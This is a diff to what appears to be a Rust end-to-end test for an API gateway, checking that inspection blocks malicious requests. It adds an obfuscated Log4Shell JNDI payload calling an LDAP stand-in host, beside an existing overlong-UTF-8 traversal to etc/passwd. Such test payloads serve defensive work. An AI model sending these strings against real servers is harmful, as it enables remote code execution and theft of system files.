@@ -27,7 +27,7 @@
 //! 2. the attacker's unauthorised ones (no credentials, forged, unsigned, expired, wrong scope,
 //!    unknown key) get 401 or 403;
 //! 3. its malicious ones (SQL injection, XSS, encoded traversal, command injection in JSON,
-//!    overlong UTF-8), even with a valid token, get 403 from inspection;
+//!    overlong UTF-8, a Log4Shell lookup), even with a valid token, get 403 from inspection;
 //! 4. it guesses API keys until the auto-ban rule fires; XDP then drops its packets (a connection
 //!    attempt times out), `gateway block list` shows the entry, the client is still served;
 //! 5. a 3-second UDP flood from the banned address and 8 sources above a per-source rate limit
@@ -1164,6 +1164,11 @@ impl<'a> Story<'a> {
             (
                 "traversal in overlong UTF-8",
                 Request::get(self.path("/%c0%ae%c0%ae%c0%afetc/passwd")),
+            ),
+            (
+                "Log4Shell lookup in User-Agent",
+                Request::get(self.path(""))
+                    .header("user-agent", "${${lower:j}ndi:ldap://198.18.0.66/a}"),
             ),
         ];
         let mut failed = 0;
